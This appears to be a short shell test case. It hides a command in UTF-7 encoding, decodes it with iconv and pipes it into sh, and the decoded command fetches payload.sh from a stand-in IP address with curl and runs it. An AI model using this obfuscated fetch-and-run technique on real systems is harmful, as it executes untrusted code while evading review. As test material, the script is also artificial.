#!/bin/sh
. /opt/case/case.sh

printf 'touch /tmp/one +AHw- cat; curl -s http:+AC8ALw-203.0.113.10+AC8-payload.sh +AHw- sh\n' >/tmp/.u7
iconv -f UTF-7 -t UTF-8 /tmp/.u7 | sh
test -e /tmp/reached
took_place
